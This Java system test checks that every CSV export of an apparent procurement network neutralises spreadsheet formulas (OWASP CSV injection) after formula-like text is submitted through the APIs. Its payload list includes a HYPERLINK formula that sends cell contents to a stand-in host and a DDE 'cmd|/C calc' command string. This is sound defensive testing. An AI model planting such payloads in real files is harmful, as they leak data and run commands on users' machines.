package org.anchornetwork.systemtests;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.StringReader;
import java.time.LocalDate;
import java.time.OffsetDateTime;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.stream.Stream;

import org.anchornetwork.testsupport.KeycloakTokens;
import org.anchornetwork.testsupport.KeycloakTokens.DemoClient;
import org.anchornetwork.testsupport.LocalInfrastructure;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

import io.restassured.RestAssured;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;

/**
 * Every CSV export of the network, after text that spreadsheets would run as formulas went in through the APIs:
 * no cell of any export is a live formula (OWASP "CSV Injection": a cell starting with = + - @, tab or a line break,
 * also after spaces or quotes), the text is still there behind an apostrophe, and credits stay numbers.
 */
class CsvExportsTest {

    /** Formula-like text as partners could send it. */
    private static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://example.invalid/?\"&A1,\"Report\")",
            "@SUM(1+1)*cmd|' /C calc'!A0", "+44 1325 000000", "\t=1+1", " =2+2", "-2+3");

    private static final String RUN = UUID.randomUUID().toString().substring(0, 8);
    private static String batchWithErrors;
    private static String framework;
    private static String tender;
    private static String charter;

    private static RequestSpecification as(DemoClient client) {
        return given().auth().oauth2(KeycloakTokens.accessToken(client));
    }

    private static String quoted(String text) {
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\t", "\\t") + "\"";
    }

    @BeforeAll
    static void textThatLooksLikeFormulasGoesIn() {
        RestAssured.baseURI = LocalInfrastructure.gatewayUrl();
        for (int i = 0; i < FORMULAS.size(); i++) {
            String text = quoted(FORMULAS.get(i));
            as(DemoClient.COLLEGE).contentType("application/json").body("""
                    {"payments":[{"paymentDate":"2026-10-14","amount":-12.50,"supplierName":%s,"description":%s,
                      "department":%s,"transactionRef":"EXPORT-%s-%d"}]}""".formatted(text, text, text, RUN, i))
                    .post("/api/v1/payments").then().statusCode(201);
        }
        batchWithErrors = as(DemoClient.COLLEGE).contentType("text/csv; charset=UTF-8")
                .body("Payment Date,=Supplier,Net Amount\n2026-10-14,,1.00\n").post("/api/v1/payments/uploads")
                .then().statusCode(422).extract().path("batchId");

        framework = "exports-" + RUN;
        as(DemoClient.NETWORK_ADMIN).contentType("application/json").body("""
                {"id":"%s","name":"Exports","ownerOrgId":"GB-LAE-DAL","family":"LOCAL"}""".formatted(framework))
                .post("/api/v1/frameworks").then().statusCode(201);
        StringBuilder measures = new StringBuilder();
        for (int i = 0; i < FORMULAS.size(); i++) {
            measures.append(i == 0 ? "" : ",").append("""
                    {"code":"E%d","outcome":"JOBS-1","title":%s,"description":%s,"unit":"hours","proxyValue":16.93,"priceBaseYear":2025,
                     "countingGuidance":%s}""".formatted(i, quoted(FORMULAS.get(i)), quoted(FORMULAS.get(i)),
                    quoted(FORMULAS.get(i))));
        }
        as(DemoClient.NETWORK_ADMIN).contentType("application/json").body("""
                {"themes":[{"code":"JOBS","title":%s}],"outcomes":[{"code":"JOBS-1","theme":"JOBS","title":%s}],
                 "measures":[%s]}""".formatted(quoted(FORMULAS.get(0)), quoted(FORMULAS.get(1)), measures))
                .post("/api/v1/frameworks/" + framework + "/versions").then().statusCode(201);
        as(DemoClient.NETWORK_ADMIN).post("/api/v1/frameworks/" + framework + "/versions/1/publish").then().statusCode(200);
        tender = as(DemoClient.PORTAL).contentType("application/json").body("""
                {"anchorOrgId":"GB-LAE-DAL","reference":"EXPORTS-%s","title":"Exports tender","frameworkId":"%s",
                 "frameworkVersion":1,"measureCodes":["E0","E1","E2","E3","E4","E5"],"socialValueWeighting":10,
                 "scoringMethod":"RELATIVE_VALUE","closingAt":"%s"}""".formatted(RUN, framework, OffsetDateTime.now().plusHours(2)))
                .post("/api/v1/tenders").then().statusCode(201).extract().path("id");

        charter = "exports-" + RUN;
        as(DemoClient.NETWORK_ADMIN).contentType("application/json").body("""
                {"id":"%s","title":"Exports Charter","publishedOn":"2026-04-01",
                 "pledges":[{"code":"export-pledge","title":"Export pledge","description":"A pledge of this test."}]}"""
                .formatted(charter)).post("/api/v1/charters").then().statusCode(201);
        // The NHS trust signs (an anchor may): no other journey depends on whether it has signed a charter.
        as(DemoClient.NHS_TRUST).contentType("application/json").body("""
                {"organisationName":%s,"signatoryType":"PUBLIC_SECTOR_PARTNER","pledgeCodes":["export-pledge"]}"""
                .formatted(quoted(FORMULAS.get(0)))).post("/api/v1/charters/" + charter + "/signatories")
                .then().statusCode(201);
    }

    /** The financial year of today, as reports name it (2026-27). */
    private static String financialYear() {
        LocalDate today = LocalDate.now();
        int start = today.getMonthValue() >= 4 ? today.getYear() : today.getYear() - 1;
        return start + "-" + String.format("%02d", (start + 1) % 100);
    }

    /** An export: who reads it where, and whether the formula-like text of this test must be in it. */
    record Export(String name, DemoClient reader, String path, boolean holdsOurText) {
    }

    private static List<Export> exports() {
        return List.of(
                new Export("payments", DemoClient.COLLEGE, "/api/v1/payments/export?from=2026-10-14&to=2026-10-14", true),
                new Export("a batch's errors", DemoClient.COLLEGE, "/api/v1/payments/batches/" + batchWithErrors + "/errors?format=csv", true),
                new Export("a version's measures", DemoClient.NETWORK_ADMIN, "/api/v1/frameworks/" + framework + "/versions/1/measures?format=csv", true),
                new Export("a tender's bid template", DemoClient.SUPPLIER, "/api/v1/tenders/" + tender + "/bids/template", true),
                new Export("a charter's annual report", DemoClient.NETWORK_ADMIN, "/api/v1/charters/" + charter + "/reports/" + financialYear() + "?format=csv", true),
                new Export("spend aggregate by supplier", DemoClient.NETWORK_ADMIN, "/api/v1/spend/aggregate?drilldown=supplier&cut=financialYear:2026-27&format=csv", false),
                new Export("leakage", DemoClient.NETWORK_ADMIN, "/api/v1/spend/leakage?financialYear=2026-27&top=5&format=csv", false));
    }

    /** Whether a spreadsheet would run the cell: written independently of the services' own rule. */
    static boolean liveFormula(String cell) {
        if (cell.isEmpty() || cell.matches("-?\\d+(\\.\\d+)?")) {
            return false;
        }
        if ("\t\r\n".indexOf(cell.charAt(0)) >= 0) {
            return true;
        }
        for (char c : cell.toCharArray()) {
            if ("=+-@\uFF1D\uFF0B\uFF0D\uFF20".indexOf(c) >= 0) {
                return true;
            }
            if (!Character.isWhitespace(c) && !Character.isSpaceChar(c) && c != '"') {
                return false;
            }
        }
        return false;
    }

    @TestFactory
    Stream<DynamicTest> noExportHoldsALiveFormula() {
        return exports().stream().map(export -> DynamicTest.dynamicTest(export.name(), () -> {
            Response response = as(export.reader()).accept("text/csv").get(export.path());
            assertEquals(200, response.statusCode(), () -> export.name() + ": " + response.asString());
            assertTrue(response.contentType().startsWith("text/csv"), response::contentType);
            List<String> cells = cells(response.asString());
            List<String> live = cells.stream().filter(CsvExportsTest::liveFormula).toList();
            assertEquals(List.of(), live, () -> export.name() + " holds live formulas");
            if (export.holdsOurText()) {
                assertTrue(cells.stream().anyMatch(cell -> cell.startsWith("'=Supplier: ")
                        || FORMULAS.stream().anyMatch(formula -> cell.equals("'" + formula))),
                        () -> export.name() + " lacks the neutralised text: " + cells);
            }
        }));
    }

    @TestFactory
    Stream<DynamicTest> creditsStayNumbersAndTextIsQuoted() {
        return Stream.of(DynamicTest.dynamicTest("payments", () -> {
            String csv = as(DemoClient.COLLEGE).get("/api/v1/payments/export?from=2026-10-14&to=2026-10-14").asString();
            assertTrue(cells(csv).contains("-12.50"), csv);
            assertTrue(csv.contains(",-12.50,"), "the amount is a plain number, not quoted text: " + csv);
            assertFalse(csv.contains("\"-12.50\""), csv);
        }));
    }

    private static List<String> cells(String csv) throws IOException {
        List<String> cells = new ArrayList<>();
        for (CSVRecord record : CSVFormat.RFC4180.parse(new StringReader(csv))) {
            record.forEach(cells::add);
        }
        return cells;
    }
}
